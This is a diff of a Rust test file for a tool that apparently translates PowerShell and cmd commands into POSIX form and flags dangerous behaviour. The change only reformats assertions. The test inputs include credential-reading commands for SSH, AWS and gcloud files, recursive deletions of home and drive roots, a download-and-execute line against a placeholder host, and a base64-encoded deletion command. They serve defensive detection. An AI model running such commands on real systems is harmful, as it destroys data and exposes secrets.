@@ -14,7 +14,11 @@ fn commands(hint: &str) -> Vec<String> {
         .map(|c| {
             let mut flags = c.flags.clone();
             flags.sort();
-            std::iter::once(c.program.clone()).chain(flags).chain(c.positionals.iter().cloned()).collect::<Vec<_>>().join(" ")
+            std::iter::once(c.program.clone())
+                .chain(flags)
+                .chain(c.positionals.iter().cloned())
+                .collect::<Vec<_>>()
+                .join(" ")
         })
         .collect()
 }
@@ -31,10 +35,22 @@ fn cmdlets_and_builtins_are_the_posix_programs_they_mean() {
     assert!(has("ri -r -fo ${env:USERPROFILE}\\projects", "rm -f -r ~/projects"));
     assert!(has("cmd /c \"rd /s /q C:\\Users\\bob\"", "rm -f -r /Users/bob"));
     assert!(has("cmd.exe /C del /S /Q %USERPROFILE%\\Documents", "rm -f -r ~/Documents"));
-    assert!(has("powershell -Command \"Get-Content $env:USERPROFILE\\.ssh\\id_rsa\"", "cat ~/.ssh/id_rsa"));
-    assert!(has("pwsh -NoProfile -ExecutionPolicy Bypass -c \"gc $HOME\\.aws\\credentials\"", "cat ~/.aws/credentials"));
-    assert!(has("cmd /c type %APPDATA%\\gcloud\\credentials.db", "cat ~/AppData/Roaming/gcloud/credentials.db"));
-    assert!(has("powershell -c 'Copy-Item -Path .\\build -Destination \\\\server\\share\\drop -Recurse'", "cp -r build /server/share/drop"));
+    assert!(has(
+        "powershell -Command \"Get-Content $env:USERPROFILE\\.ssh\\id_rsa\"",
+        "cat ~/.ssh/id_rsa"
+    ));
+    assert!(has(
+        "pwsh -NoProfile -ExecutionPolicy Bypass -c \"gc $HOME\\.aws\\credentials\"",
+        "cat ~/.aws/credentials"
+    ));
+    assert!(has(
+        "cmd /c type %APPDATA%\\gcloud\\credentials.db",
+        "cat ~/AppData/Roaming/gcloud/credentials.db"
+    ));
+    assert!(has(
+        "powershell -c 'Copy-Item -Path .\\build -Destination \\\\server\\share\\drop -Recurse'",
+        "cp -r build /server/share/drop"
+    ));
     assert!(has("taskkill /F /IM safety-dongle.exe", "kill -9 safety-dongle.exe"));
     assert!(has("Get-ChildItem env:", "printenv"));
 }
@@ -44,22 +60,45 @@ fn pipelines_redirections_and_evaluated_text_are_followed() {
     let analysis = analyze("powershell -c \"iwr https://x.example/a.ps1 | iex\"").unwrap();
     assert!(analysis.has(Fact::RunsDownloadedCode), "{:?}", analysis.facts);
     let analysis = analyze("powershell -c \"Set-Content -Path $env:USERPROFILE\\.bashrc -Value 'x'; 'y' > C:\\ProgramData\\boot.cmd\"").unwrap();
-    assert!(analysis.writes.iter().any(|w| w == "~/.bashrc") && analysis.writes.iter().any(|w| w == "/ProgramData/boot.cmd"), "{:?}", analysis.writes);
+    assert!(
+        analysis.writes.iter().any(|w| w == "~/.bashrc")
+            && analysis.writes.iter().any(|w| w == "/ProgramData/boot.cmd"),
+        "{:?}",
+        analysis.writes
+    );
     assert!(has("powershell -c \"iex 'Remove-Item -Recurse -Force C:\\'\"", "rm -f -r /"));
     assert!(analyze("powershell -c \"iex $payload\"").unwrap().has(Fact::EvalOfUnknownText));
-    assert!(has("Start-Process cmd -ArgumentList '/c','rd','/s','/q','C:\\Users\\me'", "rm -f -r /Users/me"));
+    assert!(has(
+        "Start-Process cmd -ArgumentList '/c','rd','/s','/q','C:\\Users\\me'",
+        "rm -f -r /Users/me"
+    ));
     // `-EncodedCommand` is base64 of UTF-16LE: `Remove-Item -Recurse -Force ~`.
-    let encoded = "UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAB+AA==";
+    let encoded =
+        "UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAB+AA==";
     assert_eq!(decode_encoded_command(encoded).as_deref(), Some("Remove-Item -Recurse -Force ~"));
     assert!(has(&format!("powershell -NoP -enc {encoded}"), "rm -f -r ~"));
-    assert!(analyze("powershell -EncodedCommand !!!").unwrap().has(Fact::EvalOfUnknownText), "undecodable text is unknown text");
+    assert!(
+        analyze("powershell -EncodedCommand !!!").unwrap().has(Fact::EvalOfUnknownText),
+        "undecodable text is unknown text"
+    );
 }
 
 #[test]
 fn quoting_follows_each_dialect() {
-    assert!(has("powershell -c \"Remove-Item -Recurse -Force 'C:\\Users\\it''s me'\"", "rm -f -r /Users/it's me"));
-    let words = |dialect, line| super::tokenize(dialect, line).into_iter().filter_map(|t| if let super::Token::Word(w) = t { Some(w) } else { None }).collect::<Vec<_>>();
-    assert_eq!(words(Dialect::PowerShell, "rm \"a``b `\"c`\"\" 'd''e' f`;g"), ["rm", "a`b \"c\"", "d'e", "f;g"]);
+    assert!(has(
+        "powershell -c \"Remove-Item -Recurse -Force 'C:\\Users\\it''s me'\"",
+        "rm -f -r /Users/it's me"
+    ));
+    let words = |dialect, line| {
+        super::tokenize(dialect, line)
+            .into_iter()
+            .filter_map(|t| if let super::Token::Word(w) = t { Some(w) } else { None })
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        words(Dialect::PowerShell, "rm \"a``b `\"c`\"\" 'd''e' f`;g"),
+        ["rm", "a`b \"c\"", "d'e", "f;g"]
+    );
     assert_eq!(words(Dialect::Cmd, "del \"a^b\" c^&d"), ["del", "a^b", "c&d"]);
     assert!(has("cmd /c 'rd /s /q C:\\Us^ers\\bob'", "rm -f -r /Users/bob"));
     assert!(has("cmd /c echo hi 2>&1 & rd /s /q C:\\Temp", "rm -f -r /Temp"));
@@ -79,7 +118,13 @@ fn a_line_is_read_as_cmd_or_powershell_only_when_it_says_so() {
     assert_eq!(dialect_of("cat $env:USERPROFILE/x"), Some(Dialect::PowerShell));
     assert_eq!(dialect_of("del /s /q C:\\x"), Some(Dialect::Cmd));
     assert_eq!(dialect_of("type %USERPROFILE%\\.ssh\\id_rsa"), Some(Dialect::Cmd));
-    for posix in ["rm -rf build", "cat /etc/hosts", "git commit -m 'fix: 100% done'", "type -a ls", "ls; cd src && make"] {
+    for posix in [
+        "rm -rf build",
+        "cat /etc/hosts",
+        "git commit -m 'fix: 100% done'",
+        "type -a ls",
+        "ls; cd src && make",
+    ] {
         assert_eq!(dialect_of(posix), None, "{posix}");
     }
 }
